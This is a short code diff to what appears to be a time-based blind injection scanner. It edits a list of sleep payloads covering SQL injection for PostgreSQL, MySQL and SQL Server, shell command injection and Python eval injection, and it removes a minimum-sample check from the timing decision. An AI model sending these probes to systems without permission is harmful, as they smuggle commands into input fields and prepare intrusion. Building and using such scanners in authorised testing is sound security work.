@@ -12,15 +12,13 @@ SECONDS = 0.4
 SLEEPS = (
     "'||(SELECT pg_sleep({t}))||'",
     "' OR (SELECT 1 FROM pg_sleep({t})) IS NOT NULL -- q",
-    "%' OR (SELECT 1 FROM pg_sleep({t})) IS NOT NULL -- q",
     "'; SELECT pg_sleep({t}) -- q",
     "' OR SLEEP({t}) OR '1'='2",
     "'; WAITFOR DELAY '0:0:{t}' -- q",
-    "$(sleep {t})",
-    "';sleep {t};'",
+    "$(sleep {t})';sleep {t};'",
     "__import__('time').sleep({t})",
 )
-"""For PostgreSQL, MySQL, SQL Server, shells and Python."""
+"""For PostgreSQL, MySQL, SQL Server, shells (within either quotes or none) and Python."""
 
 ROUNDS = 3
 
@@ -38,6 +36,4 @@ def decides(asked: Sequence[float], null: Sequence[float]) -> bool:
 
     Seconds of interleaved requests; a target that is late by itself is so on both sides.
     """
-    if min(len(asked), len(null)) < ROUNDS:
-        return False
     return min(asked) > max(null) + SECONDS * 0.6
